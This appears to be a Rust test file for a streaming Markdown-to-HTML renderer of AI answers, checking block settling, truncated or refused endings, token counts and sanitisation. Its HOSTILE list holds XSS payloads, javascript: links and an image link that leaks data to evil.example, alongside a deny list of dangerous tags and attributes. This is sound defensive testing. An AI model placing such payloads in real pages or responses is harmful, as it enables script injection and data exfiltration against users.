use proptest::prelude::*;

use super::*;

const ANSWER: &str = "# Crates\n\nUse `GET /crates` and [the *guide*][g], not `GET /secrets`.\n\n```json\n{\"a\": 1}\n```\n\n- one\n- two\n\n> quoted\n\nMore of it.[^n]\n\n[g]: https://guide.example/a\n\n[^n]: A note.\n";

fn writer() -> Writer {
    Writer::new("1".to_owned(), BTreeSet::from(["GET /crates".to_owned()]))
}

fn text(text: &str) -> Event {
    Event::TextDelta {
        text: text.to_owned(),
    }
}

fn ended(ending: Ending) -> Event {
    Event::Ended { ending }
}

fn written(pieces: &[&str], ending: Ending) -> (Transcript, Vec<Patch>, Standing) {
    let (mut writer, mut transcript, mut all) = (writer(), Transcript::default(), Vec::new());
    for piece in pieces {
        writer.hear(&[text(piece)]);
        all.extend(writer.take());
    }
    writer.hear(&[ended(ending)]);
    all.extend(writer.take());
    for patch in &all {
        transcript.take(patch);
    }
    (transcript, all, writer.standing())
}

#[test]
fn a_block_that_is_settled_is_told_again_only_if_a_definition_came() {
    let pieces: Vec<&str> = ANSWER.split_inclusive(' ').collect();
    let (_, patches, _) = written(&pieces, Ending::Complete);
    let mut settled = BTreeMap::new();
    for patch in &patches {
        if let Patch::Block {
            id, is_open: false, ..
        }
        | Patch::CodeEnded { id } = patch
        {
            *settled.entry(*id).or_insert(0) += 1;
        }
    }
    // The paragraph with the link, and the one with the footnote.
    assert_eq!(settled[&1], 2);
    assert_eq!(settled[&5], 2);
    assert!(
        settled
            .iter()
            .all(|(id, times)| *times == 1 || matches!(id, 1 | 5))
    );
}

#[test]
fn names_and_links_are_buttons_and_nothing_leads_away() {
    let (transcript, _, standing) = written(&[ANSWER], Ending::Complete);
    let html: String = transcript
        .blocks()
        .filter_map(|(_, shown)| match shown {
            Shown::Html { html, .. } => Some(html.as_str()),
            Shown::Code { .. } => None,
        })
        .collect();
    assert!(html.contains("<button type=\"button\" class=\"name\" data-name=\"GET /crates\">"));
    assert!(
        html.contains("<code>GET /secrets</code>") && !html.contains("data-name=\"GET /secrets")
    );
    assert!(html.contains("data-to=\"https://guide.example/a\""));
    assert!(!html.contains("href=\"http"));
    assert_eq!(standing.end, Some(End::Whole));
}

#[test]
fn what_was_cut_keeps_what_came_and_is_not_whole() {
    for (ending, end) in [
        (Ending::Truncated, End::Cut),
        (Ending::Aborted, End::Cut),
        (Ending::Length, End::Length),
        (Ending::Refused, End::Declined),
    ] {
        let (transcript, _, standing) = written(&["Half a sen", "tence of `cod"], ending);
        assert_eq!(standing.end, Some(end));
        let shown: Vec<_> = transcript.blocks().collect();
        let html = "<p>Half a sentence of `cod</p>\n".to_owned();
        assert_eq!(
            shown,
            [(
                0,
                &Shown::Html {
                    html,
                    is_open: false
                }
            )]
        );
    }
}

#[test]
fn nothing_is_heard_after_the_end() {
    let mut writer = writer();
    writer.hear(&[text("One."), ended(Ending::Complete)]);
    writer.take();
    writer.hear(&[text("Two.")]);
    writer.over(End::Cut);
    assert_eq!(writer.take(), []);
    assert_eq!(writer.source(), "One.");
    assert_eq!(writer.standing().end, Some(End::Whole));
}

#[test]
fn tokens_are_estimated_until_they_are_told() {
    let mut writer = writer();
    assert!(!writer.standing().has_begun);
    writer.hear(&[text("Some words of an answer")]);
    let standing = writer.standing();
    assert!(standing.has_begun && standing.output > 0 && !standing.is_counted);
    writer.hear(&[Event::Usage(Usage {
        input_tokens: 70,
        output_tokens: 900,
        ..Usage::default()
    })]);
    let standing = writer.standing();
    assert_eq!((standing.input, standing.output), (70, 900));
}

/// Markdown that would run, fetch, or lead somewhere if it were believed.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?a=1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<a href=\"https://evil.example\" onclick=alert(1)>x</a>",
    "<button data-to=\"javascript:alert(1)\" onclick=alert(1) formaction=x>x</button>",
    "<p style=\"background:url(//evil.example)\">x</p>",
    "<iframe src=//evil.example></iframe>",
    "<svg onload=alert(1)><use href=x></use></svg>",
    "<form action=//evil.example><input type=image src=x></form>",
    "<blockquote cite=\"//evil.example\">x</blockquote>",
    "<b title=\"<script>\">x</b>",
    "[x](https://a.example \"<img src=x>\")",
    "<video poster=//evil.example src=x></video>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "`GET /crates\" onclick=alert(1) x=\"`",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"#x\" id=work>x</a>",
];

#[test]
fn hostile_markdown_becomes_nothing_that_runs_fetches_or_leads_away() {
    for hostile in HOSTILE {
        let (transcript, _, _) = written(&["Before\n\n", hostile, "\n\nafter"], Ending::Complete);
        for (_, shown) in transcript.blocks() {
            let Shown::Html { html, .. } = shown else {
                panic!("{hostile}: {shown:?}");
            };
            let lower = html.to_lowercase();
            // What stands in tags, without texts.
            let tags: String = lower
                .split('<')
                .skip(1)
                .filter_map(|tag| tag.split('>').next())
                .collect::<Vec<_>>()
                .join(" ");
            for bad in [
                "script",
                "img",
                " on",
                "javascript:",
                "style",
                "src",
                "iframe",
                "svg",
                "form",
                "cite",
                "href=\"h",
                "video",
                "poster",
                "math",
                " id=\"work",
            ] {
                let told = tags
                    .replace("&lt;script&gt;", "")
                    .replace("&lt;img src=x&gt;", "");
                assert!(!told.contains(bad), "{hostile} has {bad}: {html}");
            }
        }
    }
}

proptest! {
    #[test]
    fn the_pieces_it_comes_in_do_not_matter(cuts in prop::collection::btree_set(0..ANSWER.len(), 0..40)) {
        let mut pieces = Vec::new();
        let mut from = 0;
        for cut in cuts {
            if ANSWER.is_char_boundary(cut) {
                pieces.push(&ANSWER[from..cut]);
                from = cut;
            }
        }
        pieces.push(&ANSWER[from..]);
        let (transcript, _, _) = written(&pieces, Ending::Complete);
        let (whole, _, _) = written(&[ANSWER], Ending::Complete);
        prop_assert_eq!(&transcript, &whole);
        let mut again = Transcript::default();
        for patch in transcript.patches() {
            again.take(&patch);
        }
        prop_assert_eq!(transcript, again);
    }
}
